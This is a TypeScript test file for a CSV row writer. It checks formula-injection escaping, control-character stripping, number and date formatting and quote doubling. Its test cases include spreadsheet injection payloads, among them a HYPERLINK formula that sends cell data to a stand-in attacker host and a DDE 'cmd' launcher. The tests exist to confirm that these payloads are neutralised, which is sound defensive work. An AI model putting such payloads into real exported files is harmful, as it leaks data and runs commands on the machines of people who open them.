import fc from 'fast-check'
import { expect, test } from 'vitest'
import { writeRow, type Cell } from './cells.ts'

/** Reads a file as RFC 4180 has it: nothing of ours in it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1
        cell += text[at] ?? ''
      }
      at += 1
    } else {
      while (text[at] !== ',' && text[at] !== '\r') cell += text[at++] ?? ''
    }
    row.push(cell)
    if (text[at] === ',') at += 1
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const read = (...cells: Cell[]) => readCsv(writeRow(cells))[0]
const trigger = /^[=+\-@\t\r\n＝＋－＠]/

test('S-52 no text begins as a formula would, and every text can be read again', () => {
  const odd = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n＝＋－＠",; a1é🎭') })
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.string(), odd), { minLength: 1 }), (texts) => {
      const [cells = [], ...others] = readCsv(writeRow(texts))
      expect(others).toEqual([])
      for (const [index, cell] of cells.entries()) {
        expect(cell).not.toMatch(trigger)
        // oxlint-disable-next-line no-control-regex -- what nobody types is taken out
        const printable = (texts[index] ?? '').replace(/[\0-\x08\v\f\x0e-\x1f\x7f]/g, '')
        expect([printable, `'${printable}`]).toContain(cell)
      }
    }),
  )
})

test.each([
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '\0=1+1',
])('S-52 %j is text', (text) => {
  expect(read(text)?.[0]).toMatch(/^'/)
})

test('numbers stay numbers, also below zero; telephone numbers keep their plus as text', () => {
  expect(writeRow([-5, 0, 1234.5, NaN, '+44 20 7946 0958', '-5'])).toBe('-5,0,1234.5,,"\'+44 20 7946 0958","\'-5"\r\n')
})

test('dates are ISO in UTC, lists have semicolons, nothing is empty, and quotes are doubled', () => {
  const at = new Date('2026-11-21T09:30:00.000Z')
  expect(writeRow([at, ['A', 'B'], null, undefined, true, false, 'say "hi", Bob'])).toBe(
    '2026-11-21T09:30:00.000Z,"A; B",,,yes,no,"say ""hi"", Bob"\r\n',
  )
})
